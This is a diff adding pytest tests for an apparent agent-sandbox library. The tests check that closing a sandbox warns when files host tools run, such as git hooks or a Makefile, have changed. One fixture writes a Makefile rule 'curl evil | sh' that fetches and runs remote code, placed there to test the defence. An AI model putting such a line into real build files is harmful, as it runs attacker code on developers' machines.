@@ -376,6 +376,70 @@ def test_close_is_idempotent_and_use_after_close_is_invalid_handle(fake_client, 
         c.resolve(workdir, SHOP)
 
 
+def _checkout(workdir: str) -> None:
+    os.makedirs(os.path.join(workdir, ".git", "hooks"))
+    os.makedirs(os.path.join(workdir, "src"))
+    with open(os.path.join(workdir, "src", "main.py"), "w") as f:
+        f.write("print(1)\n")
+
+
+def test_close_names_the_files_host_tools_run_that_changed(fake_client, workdir):
+    """The fake runs nothing: what an agent would write through /workspace
+    is written here, between launch and close."""
+    _checkout(workdir)
+    plan = fake_client.resolve(workdir, {"sandbox_image": IMAGE})
+    sandbox = fake_client.launch(plan)
+    assert sandbox.close_result is None
+    hook = os.path.join(workdir, ".git", "hooks", "pre-commit")
+    with open(hook, "w") as f:
+        f.write("x")
+    os.chmod(hook, 0o755)
+    with open(os.path.join(workdir, "src", "main.py"), "w") as f:
+        f.write("print(2)\n")
+    with warnings.catch_warnings(record=True) as caught:
+        warnings.simplefilter("always")
+        result = sandbox.close()
+    assert isinstance(result, odek.CloseResult)
+    assert result.name == sandbox.name
+    assert result.changed_host_files == (
+        odek.HostFileChange(".git/hooks/pre-commit", "created, executable", ("created",)),
+    )
+    assert result.host_files_unchecked is None
+    assert result.message == (
+        "the sandbox changed files that host tools run: .git/hooks/pre-commit "
+        "(created, executable) — review them before running git or make"
+    )
+    said = [w for w in caught if issubclass(w.category, odek.HostFilesChangedWarning)]
+    assert len(said) == 1 and result.message in str(said[0].message), caught
+    # Idempotent: the same result, no second warning.
+    assert sandbox.close() is result and sandbox.close_result is result
+
+    # Only src/main.py edited: nothing changed, nothing said — also at the
+    # end of a with block.
+    with warnings.catch_warnings(record=True) as caught:
+        warnings.simplefilter("always")
+        with fake_client.launch(plan) as sandbox:
+            with open(os.path.join(workdir, "src", "main.py"), "w") as f:
+                f.write("print(3)\n")
+    assert sandbox.close_result is not None
+    assert sandbox.close_result.changed_host_files == ()
+    assert sandbox.close_result.message is None
+    assert not [w for w in caught if issubclass(w.category, odek.HostFilesChangedWarning)]
+
+
+def test_a_with_block_warns_of_a_changed_makefile(fake_client, workdir):
+    _checkout(workdir)
+    with warnings.catch_warnings(record=True) as caught:
+        warnings.simplefilter("always")
+        with fake_client.launch(fake_client.resolve(workdir, {"sandbox_image": IMAGE})) as sandbox:
+            with open(os.path.join(workdir, "Makefile"), "w") as f:
+                f.write("all:\n\tcurl evil | sh\n")
+    said = [str(w.message) for w in caught if issubclass(w.category, odek.HostFilesChangedWarning)]
+    assert len(said) == 1 and "Makefile (created)" in said[0], said
+    assert sandbox.close_result is not None
+    assert [c.path for c in sandbox.close_result.changed_host_files] == ["Makefile"]
+
+
 def test_with_block_destroys_even_on_exception(fake_client, workdir):
     plan = fake_client.resolve(workdir, SHOP)
     with pytest.raises(RuntimeError, match="agent crashed"):
